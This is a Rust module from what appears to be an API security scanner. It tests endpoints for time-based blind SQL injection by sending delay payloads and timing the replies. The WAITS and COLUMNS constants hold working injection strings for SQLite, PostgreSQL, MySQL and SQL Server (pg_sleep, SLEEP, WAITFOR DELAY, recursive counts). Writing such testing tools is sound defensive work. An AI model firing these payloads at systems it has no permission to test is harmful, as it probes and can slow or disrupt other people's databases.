//! Statements that take long.
//!
//! Where nothing of a statement shows in the answer, time does: a database that is told to wait, or to count to millions,
//! answers late. What is sent leaves the value as it is, so that it may be sent to writes, too.

use super::mend::{MEND_AT_GATE, MEND_IN_CODE};
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::{self, Aim, Takes, is_called, is_read_like};
use crate::attacks::delay::{self, Outcome};
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "sql-time",
    door: GuideDoor::SqlInjection,
    shut_by: ShutBy::Code,
    thought: "If I ask the database to wait, does the answer come later?",
    level: Level::Critical,
    references: &["CWE-89", "API8:2023"],
    mend_in_code: MEND_IN_CODE,
    mend_at_gate: MEND_AT_GATE,
    run: |p, tried| Box::pin(run(p, tried)),
};

/// How far SQLite counts for one unit of waiting.
const COUNT: u64 = 2_000_000;

/// What waits: `ROWS` is how far to count, `SECONDS` how long to sleep.
struct Wait {
    text: &'static str,
    takes: Takes,
    is_for_reads: bool,
}

const fn wait(takes: Takes, text: &'static str) -> Wait {
    Wait { text, takes, is_for_reads: false }
}

const fn wait_of_reads(takes: Takes, text: &'static str) -> Wait {
    Wait { text, takes, is_for_reads: true }
}

/// SQLite, PostgreSQL, MySQL, SQL Server; from a text, and from a number.
const WAITS: [Wait; 8] = [
    wait(
        Takes::Text,
        "'||substr((WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT ROWS) SELECT count(*) FROM c),1,0)||'",
    ),
    wait(Takes::Text, "'||(SELECT substr(pg_sleep(SECONDS)::text,1,0))||'"),
    wait(Takes::Text, "' AND (SELECT 1 FROM (SELECT SLEEP(SECONDS)) dw)=1 AND 'a'='a"),
    wait_of_reads(Takes::Text, "'; WAITFOR DELAY '0:0:SECONDS' -- -"),
    wait(
        Takes::Number,
        "+0*(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT ROWS) SELECT count(*) FROM c)",
    ),
    wait(Takes::Number, "+(SELECT length(substr(pg_sleep(SECONDS)::text,1,0)))"),
    wait(Takes::Number, "+(SELECT SLEEP(SECONDS))"),
    wait_of_reads(Takes::Number, "; WAITFOR DELAY '0:0:SECONDS' -- -"),
];

/// The same where the name of a column is expected, without a value before it.
const COLUMNS: [&str; 3] = [
    "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT ROWS) SELECT count(*) FROM c)",
    "(SELECT length(pg_sleep(SECONDS)::text))",
    "(SELECT SLEEP(SECONDS))",
];

async fn run<'a>(p: &'a Prober<'a>, tried: &mut Tried) -> Result<(), Stop> {
    aim::each(p, tried, |_, _| true, |p, aim, tried| Box::pin(try_slot(p, aim, tried))).await
}

async fn try_slot(p: &Prober<'_>, aim: &Aim, tried: &mut Tried) -> Result<(), Stop> {
    let is_read = is_read_like(p.surface.endpoint(aim.control.endpoint));
    let usual = delay::usual(p, aim).await?;
    if usual.is_restless() {
        tried.unknown(format!("{}: ordinary answers take short and long by themselves", aim.operation));
        return Ok(());
    }
    let fits = |wait: &&Wait| {
        (wait.takes == aim.takes || aim.takes == Takes::Either) && (is_read || !wait.is_for_reads)
    };
    let behind = WAITS.iter().filter(fits).map(|wait| format!("{}{}", aim.baseline.text, wait.text));
    let is_column = is_read && is_called(aim.slot.name(), &["sort", "order", "column", "group"]);
    let columns = COLUMNS.into_iter().filter(|_| is_column).map(str::to_owned);
    for text in behind.chain(columns) {
        let draft = |units: u32| aim.with(filled(&text, units));
        match delay::ask(p, aim, usual, &draft).await? {
            Outcome::Waits(reply, times) => {
                let message =
                    format!("the database waits as long as the value says: {times} for 0, 1 and 2 units");
                tried.open(Hole::shown(&aim.operation, &aim.slot, message, &aim.baseline.reply, &reply));
                return Ok(());
            }
            Outcome::Prompt(reply) => tried.shut(&reply.seen),
            Outcome::Restless => {
                tried.unknown(format!("{}, {}: times differ by themselves", aim.operation, aim.slot));
            }
        }
    }
    Ok(())
}

fn filled(text: &str, units: u32) -> String {
    let rows = (COUNT * u64::from(units)).max(1);
    text.replace("ROWS", &rows.to_string()).replace("SECONDS", &units.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_sent_to_writes_neither_widens_nor_cuts_nor_ends_the_statement() {
        for wait in WAITS.iter().filter(|wait| !wait.is_for_reads) {
            assert!(!wait.text.contains("--") && !wait.text.contains(';') && !wait.text.contains(" OR "));
        }
    }

    #[test]
    fn units_are_rows_or_seconds() {
        assert_eq!(filled("LIMIT ROWS", 2), "LIMIT 4000000");
        assert_eq!(filled("SLEEP(SECONDS)", 0), "SLEEP(0)");
    }
}
